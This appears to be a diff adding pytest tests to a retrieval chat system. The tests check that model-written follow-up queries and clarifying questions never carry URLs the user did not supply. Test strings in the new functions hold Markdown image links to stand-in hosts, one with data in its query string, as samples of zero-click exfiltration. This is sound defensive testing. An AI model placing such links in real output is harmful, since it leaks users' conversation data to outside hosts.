@@ -109,6 +109,27 @@ def test_a_condensed_question_proves_nothing(library: Any, actor: Any, graph: st
     assert "0900" not in answer.text
 
 
+def test_a_condensed_question_brings_no_address(library: Any, actor: Any) -> None:
+    """Its words may be those of an earlier answer, and its address names a picture that is fetched when it is shown."""
+    said = "An on-call engineer must rest for 11 hours after a night call-out"
+    model = actor(
+        condense={
+            "queries": ["How long must an engineer rest after a call-out at engineer.rest/11-hours?"],
+            "unclear": "",
+        },
+        writer=f"{said} ![](//engineer.rest/11-hours) [1].",
+    )
+    context = Context(library=library, model=model)
+    conversation = Conversation(InMemorySaver(), "one", graph="naive", context=context)
+    conversation.remember([(QUESTION, f"{said}.")])
+    assert "engineer.rest" not in conversation.ask("And what else?").text
+    honest = "How long must an engineer rest after a call-out, as own.rest/11-hours says?"
+    model = actor(condense={"queries": [honest], "unclear": ""}, writer=f"{said} (own.rest/11-hours) [1].")
+    conversation = Conversation(InMemorySaver(), "one", graph="naive", context=Context(library=library, model=model))
+    conversation.remember([(QUESTION, f"{said}.")])
+    assert "own.rest/11-hours" in conversation.ask("And what says own.rest/11-hours?").text
+
+
 @pytest.mark.parametrize("graph", ALL_PATTERNS)
 def test_what_is_missing_names_only_addresses_of_the_user(library: Any, actor: Any, graph: str) -> None:
     """It is told in a model's words, and nothing bears them out."""
@@ -123,6 +144,20 @@ def test_what_is_missing_names_only_addresses_of_the_user(library: Any, actor: A
     missing = "\n".join(conversation.ask(f"{QUESTION} Is it as https://own.example/x says?").missing)
     assert "bad.example" not in missing
     assert "https://own.example/x" in missing
+
+
+def test_a_clarifying_question_names_only_addresses_of_the_user(library: Any, actor: Any) -> None:
+    """The model that asks has read earlier answers, and a chat interface shows its question as Markdown."""
+    unclear = r"Which one? ![](https\://bad\.example/a?d=11) [here](//bad.example/b) or https://own.example/x"
+    model = actor(condense={"queries": [], "unclear": unclear})
+    context = Context(library=library, model=model, clarify=True)
+    conversation = Conversation(InMemorySaver(), "one", graph="naive", context=context)
+    conversation.ask(f"{QUESTION} Is it as https://own.example/x says?")
+    asked: list[str] = []
+    conversation.ask("And the other one?", clarify=asked.append)  # type: ignore[arg-type]
+    (text,) = asked
+    assert "https://own.example/x" in text
+    assert not foreign_urls(text, ["https://own.example/x"])
 
 
 def test_the_model_does_obey(field: Field) -> None:
